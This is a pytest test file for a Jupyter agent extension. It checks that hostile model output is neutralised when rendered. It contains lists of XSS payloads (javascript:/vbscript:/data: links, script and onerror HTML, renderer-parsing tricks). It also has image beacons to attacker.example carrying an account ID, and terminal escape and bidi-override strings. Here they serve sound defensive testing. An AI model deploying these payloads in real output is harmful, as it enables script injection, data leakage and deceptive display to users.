"""Hostile model text on every surface a user sees: Markdown, HTML, text/plain, the card.

The final answer's Markdown is rendered by real CommonMark/GFM renderers (markdown-it-py, the
reference algorithm ported to Python, and mistune, which Jupyter's nbconvert uses), both
configured to pass raw HTML and every URL through, as permissive as a renderer gets; the
resulting HTML is parsed and must hold no script, no event handler, no image, no frame and no
``javascript:``/``vbscript:``/``data:`` link, however the model spelt it.  Terminal control
sequences and bidi overrides must not reach any text/plain or HTML surface.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel

from cheq_jupyter import display as display_mod
from cheq_jupyter.agent import AgentResult, ToolCallRecord
from cheq_jupyter.approval import ApprovalRequest, Decision
from cheq_jupyter.audit import AuditLog, table
from cheq_jupyter.card import diff_html, header_html
from cheq_jupyter.display import (
    NotebookEvents,
    escape_markdown,
    render_output,
    render_tool_result,
)

# -- renderers -------------------------------------------------------------------------------


def _markdown_it() -> Callable[[str], str]:
    markdown_it = pytest.importorskip("markdown_it")
    md = markdown_it.MarkdownIt("gfm-like", {"html": True, "linkify": False})
    md.validateLink = lambda url: True  # no safety net: our output must be safe by itself
    return md.render  # type: ignore[no-any-return]


def _mistune() -> Callable[[str], str]:
    mistune = pytest.importorskip("mistune")
    renderer = mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True)
    md = mistune.create_markdown(renderer=renderer, plugins=["table", "strikethrough", "url"])
    return lambda text: str(md(text))


RENDERERS = {"markdown-it": _markdown_it, "mistune": _mistune}

SAFE_TAGS = {
    "p", "a", "code", "pre", "em", "strong", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol",
    "li", "blockquote", "table", "thead", "tbody", "tr", "th", "td", "br", "hr", "del", "s",
}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


class _Audit(HTMLParser):
    """Everything in rendered HTML that would act on its own or on a click."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.hrefs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcset", "formaction"):
                self.problems.append(f"{name}= on <{tag}>")
            if name in ("href", "src", "action", "xlink:href", "background", "poster"):
                url = value or ""
                self.hrefs.append(url)
                # What a browser's URL parser makes of it: C0 and spaces trimmed, tabs and
                # newlines removed anywhere, scheme case-insensitive.
                seen = re.sub(r"[\t\n\r]", "", url).strip("\x00\x01\x02\x03\x04\x05\x06\x07"
                                                          "\x08\x0b\x0c\x0e\x0f\x10\x11\x12"
                                                          "\x13\x14\x15\x16\x17\x18\x19\x1a"
                                                          "\x1b\x1c\x1d\x1e\x1f ").lower()
                if seen.startswith(BAD_SCHEMES):
                    self.problems.append(f"{name}={url!r} on <{tag}>")
                if tag != "a":
                    self.problems.append(f"{name}= loads {url!r} by itself")


def rendered_problems(markdown: str, render: Callable[[str], str]) -> tuple[str, list[str]]:
    out = render(markdown)
    audit = _Audit()
    audit.feed(out)
    audit.close()
    return out, audit.problems


# -- payloads --------------------------------------------------------------------------------

LINKS = [
    "[click](javascript:alert(1))",
    "[click](JavaScript:alert(1))",
    "[click](JAVASCRIPT:alert(document.cookie))",
    "[click]( javascript:alert(1) )",
    "[click](javascript\\:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](javascript:alert(1) \"title\")",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript&colon;alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](javascript:\u00a0alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](VBScript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](DATA:text/html,<script>alert(1)</script>)",
    "[click][r]\n\n[r]: javascript:alert(1)",
    "[click][R]\n\n[r]: JavaScript:alert(1) 'title'",
    "[click]\n\n[click]: <javascript:alert(1)>",
    "[r]\n\n[r]:\n  javascript:alert(1)",
    "[click][r]\n\n   [r]: data:text/html,x",
    "<javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href='jav&#x61;script:alert(1)'>click</a>",
    "[**bold** click](javascript:alert(1))",
    "[a](javascript:alert(1))[b](data:x)[c](vbscript:y)",
    "> [quoted](javascript:alert(1))",
    "- [listed](javascript:alert(1))\n- ok",
    "| a | b |\n|---|---|\n| [cell](javascript:alert(1)) | x |",
    "`code` [after code](javascript:alert(1))",
    "[`code` text](javascript:alert(1))",
    "[click](javascript&#x3A;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](jav\tascript:alert(1))",
    "[click](  \tjavascript:alert(1))",
    "[click]( <javascript:alert(1)> )",
    "[click](javascript\n:alert(1))",
    "[click](javascript:alert`1`)",
    "`[x](`javascript:alert(1)`)`",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: JaVaScRiPt:alert(1)\n[y]: vbscript:z\n\n[x] [y]",
    "[^1]\n\n[^1]: javascript:alert(1)",
    "<img src=\"javascript:alert(1)\">",
    "![x](javascript:alert(1))",
    "[click](\\javascript:alert(1))",
    "[click](&#0106;&#0097;vascript:alert(1))",
    "[click](&amp;#106;avascript:alert(1))",
]

IMAGES = [
    "![](https://attacker.example/px?acct=123)",
    "![logo](https://attacker.example/px.png \"title\")",
    "![ref][img]\n\n[img]: https://attacker.example/px",
    "![img]\n\n[img]: https://attacker.example/px",
    "[![nested](https://attacker.example/px)](https://example.com)",
    "\\\\![escaped backslash](https://attacker.example/px)",
    "\\\\\\\\![two backslashes](https://attacker.example/px)",
    "<img src=\"https://attacker.example/px\">",
    "<img src=x onerror=alert(1)>",
    "| a |\n|---|\n| ![](https://attacker.example/px) |",
    "> ![](https://attacker.example/px)",
    "1. ![](https://attacker.example/px)",
    "![](data:image/png;base64,iVBORw0KGgo=)",
    "!\n[not an image](https://example.com)",
    "![x][y]\n\n[y]: <https://attacker.example/px>",
    "&#33;[entity bang](https://attacker.example/px)",
    "![a](https://attacker.example/1) ![b](https://attacker.example/2)",
    "*![emphasised](https://attacker.example/px)*",
    "# ![heading](https://attacker.example/px)",
]

RAW_HTML = [
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<iframe src=\"https://attacker.example\"></iframe>",
    "<style>body{display:none}</style>",
    "<details open ontoggle=alert(1)>",
    "<!-- hidden --><b onmouseover=alert(1)>x</b>",
    "<div>\n<img src=x onerror=alert(1)>\n</div>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "&lt;script&gt; and &amp;lt;",
    # Code-span boundary tricks: a renderer pairing backticks differently must not free HTML.
    "` one\n`<img src=x onerror=alert(1)>`",
    "`a`` <img src=x onerror=alert(1)> ``b`",
    "| `<img src=x onerror=alert(1)>|` |\n|---|\n| x |",
    "\\`<img src=x onerror=alert(1)>`",
    # Fence tricks: fences inside containers, fences that close early in some renderers.
    "- item\n\n   ```\n<script>alert(1)</script>\n   ```",
    "- item\n      ```\n      <img src=x onerror=alert(1)>\n      ```",
    "> ```\n> code\n<img src=x onerror=alert(1)>",
    "```\ncode\n```~\n<img src=x onerror=alert(1)>\n```",
    "```\ncode\n   ```python\n<img src=x onerror=alert(1)>",
    " ```\n<img src=x onerror=alert(1)>\n ```",
    "``` info`with`backticks\n<img src=x onerror=alert(1)>\n```",
    "~~~\n<img src=x onerror=alert(1)>",
    "    <img src=x onerror=alert(1)>",
    "\t```\n<img src=x onerror=alert(1)>\n```",
]


@pytest.mark.parametrize("renderer", sorted(RENDERERS))
@pytest.mark.parametrize("payload", LINKS + IMAGES + RAW_HTML)
def test_rendered_answer_has_no_active_content(payload: str, renderer: str) -> None:
    render = RENDERERS[renderer]()
    out, problems = rendered_problems(escape_markdown(payload), render)
    assert problems == [], f"{payload!r} rendered as {out!r}"


@pytest.mark.parametrize("renderer", sorted(RENDERERS))
@pytest.mark.parametrize("payload", IMAGES[:5])
def test_a_remote_image_becomes_a_link_to_click(payload: str, renderer: str) -> None:
    render = RENDERERS[renderer]()
    audit = _Audit()
    audit.feed(render(escape_markdown(payload)))
    assert any("attacker.example" in h for h in audit.hrefs)
    assert audit.problems == []


@pytest.mark.parametrize("renderer", sorted(RENDERERS))
@pytest.mark.parametrize(
    ("markdown", "code_text"),
    [
        ("Compare `x < y` first.", "x < y"),
        ("`a && b` or `a&b`", "a && b"),
        ("`<b>bold</b>`", "<b>bold</b>"),
        ("`![img](https://attacker.example/px)`", "![img](https://attacker.example/px)"),
        ("`` a ` b ``", "a ` b"),
        ("`[x](javascript:alert(1))`", "[x](javascript:alert(1))"),
        ("```python\nif a < b and c > d:\n    pass\n```", "if a < b and c > d:\n    pass\n"),
        ("~~~\n<script>x</script>\n~~~", "<script>x</script>\n"),
    ],
)
def test_code_shows_as_written(markdown: str, code_text: str, renderer: str) -> None:
    render = RENDERERS[renderer]()
    out = render(escape_markdown(markdown))
    codes = [html.unescape(m) for m in re.findall(r"<code[^>]*>(.*?)</code>", out, re.S)]
    assert code_text in codes, out


@pytest.mark.parametrize("renderer", sorted(RENDERERS))
@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("**Done**: refunded *42 €* to [Ada](https://example.com/ada).", "<strong>Done</strong>"),
        ("1 < 2 & 3 > 2", "1 &lt; 2 &amp; 3 &gt; 2"),
        ("The data: 42 rows; see https://example.com", "data"),
        ("- one\n- two", "<li>one</li>"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "<td>1</td>"),
    ],
)
def test_ordinary_markdown_still_renders(markdown: str, shown: str, renderer: str) -> None:
    out = RENDERERS[renderer]()(escape_markdown(markdown))
    assert shown in out


# -- terminal controls and bidi overrides on every surface -------------------------------------

CONTROLS = [
    "\x1b[31mred\x1b[0m",
    "\x1b]52;c;ZXZpbCBjbGlwYm9hcmQ=\x07",  # OSC 52: write the clipboard
    "\x1b]8;;https://attacker.example\x1b\\link\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x1b[2J\x1b[H",
    "\x9b31m",  # C1 CSI
    "\x9d0;title\x9c",  # C1 OSC ... ST
    "bell\x07",
    "back\x08\x08\x08over",
    "approved\rrejected",
    "nul\x00byte",
    "del\x7f",
    "next\x85line",
    "\u202eevil\u202c",
    "\u202a\u202b\u202c\u202d",
    "\u2066\u2067\u2068\u2069",
    "\u200e\u200f\u061c",
    "refund(amount=1\u202e0001)",
]
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
)


def _clean(surface: str, text: str) -> None:
    bad = FORBIDDEN.findall(text)
    assert not bad, f"{surface} shows {bad!r}: {text!r}"


def _record(result: str, name: str = "fetch", status: str = "ran") -> ToolCallRecord:
    return ToolCallRecord(id="abcdefghi", name=name, step=1, raw_arguments="{}",
                          status=status, result=result)  # type: ignore[arg-type]


class _Captured:
    def __init__(self) -> None:
        self.shown: list[dict[str, str]] = []

    def display(self, data: dict[str, str], **kwargs: Any) -> Any:
        self.shown.append(data)
        outer = self

        class Handle:
            def update(self, data: dict[str, str], **kwargs: Any) -> None:
                outer.shown.append(data)

        return Handle()


@pytest.fixture
def captured(monkeypatch: pytest.MonkeyPatch) -> _Captured:
    box = _Captured()
    monkeypatch.setattr(display_mod, "_display", box.display)
    return box


@pytest.mark.parametrize("payload", CONTROLS)
@pytest.mark.parametrize("status", ["ran", "failed"])
def test_tool_results_neutralise_controls(payload: str, status: str) -> None:
    for result in (payload, payload * 40):  # short and collapsed
        shown = render_tool_result(_record(result, status=status))
        _clean("text/plain", shown["text/plain"])
        _clean("text/html", shown["text/html"])


@pytest.mark.parametrize("payload", CONTROLS)
def test_status_lines_decisions_and_answer_neutralise_controls(
    payload: str, captured: _Captured
) -> None:
    events = NotebookEvents(approver_name="card")
    events.model_request(1, 10, "tools")
    events.assistant_message(
        {"role": "assistant", "content": payload,
         "tool_calls": [{"id": "abcdefghi", "type": "function",
                         "function": {"name": f"lookup{payload}", "arguments": "{}"}}]}, 1
    )
    events.assistant_message({"role": "assistant", "content": payload}, 2)
    request = ApprovalRequest(action=f"lookup{payload}", summary=payload, details={"q": payload},
                              tool_call_id="abcdefghi")
    events.decided([request], [Decision.reject(f"no {payload}", by="policy")])
    events.tool_result(_record(payload, name=f"lookup{payload}"))
    events.final(AgentResult(payload, [], [], 1, "m", "r", "answer"))
    assert len(captured.shown) >= 5
    for data in captured.shown:
        for mime, text in data.items():
            _clean(mime, text)


@pytest.mark.parametrize("payload", CONTROLS)
def test_extracted_output_neutralises_controls(payload: str) -> None:
    class Contact(BaseModel):
        name: str

    shown = render_output(Contact(name=payload))
    _clean("text/plain", shown["text/plain"])
    _clean("text/html", shown["text/html"])


@pytest.mark.parametrize("payload", CONTROLS)
def test_the_audit_table_neutralises_controls(payload: str, tmp_path: Path) -> None:
    log = AuditLog(tmp_path / "audit.jsonl")
    request = ApprovalRequest(action="lookup", summary=payload, details={"q": payload},
                              tool_call_id="abcdefghi")
    log.record(request, Decision.reject(f"because {payload}", by="card"))
    shown = table(log.path)
    _clean("repr(audit.table())", repr(shown))
    _clean("audit.table() HTML", shown._repr_html_())


@pytest.mark.parametrize("payload", CONTROLS)
def test_the_card_neutralises_controls(payload: str) -> None:
    request = ApprovalRequest(action="lookup", summary=f"lookup({payload})",
                              details={"q": payload}, tool_call_id="abcdefghi")
    _clean("card header", header_html(request, request.arguments_json()))
    _clean("card diff", diff_html({"q": payload}, {"q": payload + "x", payload: 1}))


def test_a_bidi_override_is_shown_as_what_it_is() -> None:
    """The reviewer sees that something is hidden there, not a reordered amount."""
    shown = render_tool_result(_record("refund(amount=1\u202e0001)"))
    assert "\\u202e" in shown["text/plain"] and "\\u202e" in shown["text/html"]


@pytest.mark.parametrize("payload", CONTROLS)
def test_the_card_edit_box_shows_escapes_that_parse_back_to_the_same_arguments(
    payload: str,
) -> None:
    """The JSON the reviewer edits shows ``\\u202e`` instead of reordering the text, and
    approving it unchanged still means exactly the model's arguments."""
    import json

    details = {"q": payload, payload: [payload]}
    request = ApprovalRequest(action="lookup", summary="s", details=details,
                              tool_call_id="abcdefghi")
    shown = request.arguments_json()
    _clean("card edit box", shown)
    assert json.loads(shown) == details


# -- in a real browser: JupyterLab renders the answer of a %%mistral_agent cell ------------------

BROWSER_ANSWER = (
    "Here is your summary \u202eSSAP\u202c.\n\n"
    "![](https://attacker.example/px?acct=123)\n\n"
    "[click me](javascript:alert(1)), [ref][r], [data](data:text/html,<b>x</b>) and "
    "[vb](VBScript:msgbox(1)).\n\n"
    "Compare `x < y` first.\n\n"
    "[r]: JAVASCRIPT:alert(2)\n"
)

_LINKS_JS = """
(root) => ({
  hrefs: Array.from(root.querySelectorAll('[href]')).map((e) => e.getAttribute('href')),
  srcs: Array.from(root.querySelectorAll('[src]')).map((e) => e.getAttribute('src')),
  images: root.querySelectorAll('img').length,
  code: Array.from(root.querySelectorAll('code')).map((e) => e.textContent),
  text: root.innerText,
})
"""


def _hostile_notebook(path: Path) -> None:
    import nbformat

    setup = (
        "import os\n"
        "from IPython.display import display\n"
        "from cheq_jupyter.testing import FakeMistral, text\n"
        f"ANSWER = {BROWSER_ANSWER!r}\n"
        "fake = FakeMistral([text(ANSWER)]).start()\n"
        "os.environ['MISTRAL_API_KEY'], os.environ['MISTRAL_SERVER_URL'] = fake.api_key, fake.url\n"
        "%load_ext cheq_jupyter"
    )
    notebook = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_code_cell(setup),
        nbformat.v4.new_code_cell("%%mistral_agent --approver policy --audit ''\nSummarise."),
        # The same answer shown raw: proves the page would load the image without the fix.
        nbformat.v4.new_code_cell("display({'text/markdown': ANSWER}, raw=True)"),
    ], metadata={"kernelspec": {"name": "python3", "display_name": "Python 3 (ipykernel)",
                                "language": "python"}})
    nbformat.write(notebook, path)


@pytest.mark.browser
def test_jupyterlab_shows_the_answer_without_dangerous_links_or_image_loads() -> None:
    import sys

    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
    if __import__("os").environ.get("CHEQ_SKIP_BROWSER") == "1":
        pytest.skip("CHEQ_SKIP_BROWSER=1")
    pytest.importorskip("playwright")
    pytest.importorskip("nbformat")
    from _lab import LabNotebook, LabServer, fresh_dir, launch_chromium, remove

    home = fresh_dir("cheq-hostile-render-")
    requests: list[str] = []
    try:
        (home / "nb").mkdir()
        _hostile_notebook(home / "nb" / "hostile.ipynb")
        with LabServer(home / "nb", home=home) as server, \
                launch_chromium(home / "chromium-profile") as page:
            page.route(re.compile(r"attacker\.example"),
                       lambda route: (requests.append(route.request.url), route.abort()))
            lab = LabNotebook(page, server, home / "shots")
            with lab.stage("opening the notebook"):
                lab.open("hostile.ipynb")
            with lab.stage("running the agent cell"):
                for index in (0, 1):
                    lab.run(index)
                    lab.wait_done(index, timeout=90)
                    assert lab.errors(index) == [], lab.errors(index)
                answer = lab.outputs_of_type(1, "text/markdown")
                answer.wait_for(state="visible", timeout=30_000)
                seen = answer.evaluate(_LINKS_JS)
            assert seen["images"] == 0 and seen["srcs"] == [], seen
            bad = [h for h in seen["hrefs"]
                   if re.sub(r"[\s\x00-\x1f]", "", h).lower().startswith(BAD_SCHEMES)]
            assert bad == [], seen
            assert any("attacker.example" in h for h in seen["hrefs"])  # shown as a link
            assert "x < y" in seen["code"], seen
            assert "\u202e" not in seen["text"] and "\\u202e" in seen["text"], seen
            assert requests == []
            with lab.stage("the same answer shown raw loads the image (the test can see it)"):
                with page.expect_request(re.compile(r"attacker\.example/px"), timeout=60_000):
                    lab.run(2)
                lab.wait_done(2, timeout=60)
            assert any("attacker.example/px" in url for url in requests), requests
    finally:
        remove(home)
